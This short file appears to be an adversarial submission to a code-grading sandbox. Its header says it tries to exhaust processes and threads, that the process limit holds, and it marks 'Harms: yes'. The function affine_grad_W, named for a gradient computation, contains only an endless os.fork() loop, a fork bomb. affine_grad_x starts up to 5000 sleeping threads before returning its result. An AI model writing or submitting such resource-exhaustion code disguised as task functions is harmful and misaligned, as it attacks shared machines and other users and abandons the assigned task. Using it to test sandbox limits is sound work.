# Tries: to fill the machine with processes, and with threads.
# Holds: the limit on processes; the machine and other submissions do not notice.
# Loses: affine_grad_W affine_grad_x
# Harms: yes

# %% affine_grad_W
import os
import threading
import time


def affine_grad_W(grad_y, x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


# %% affine_grad_x
def affine_grad_x(W, grad_y):
    started = 0
    while started < 5000:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            started += 1
        except RuntimeError:
            time.sleep(0.01)
    return W.T @ grad_y
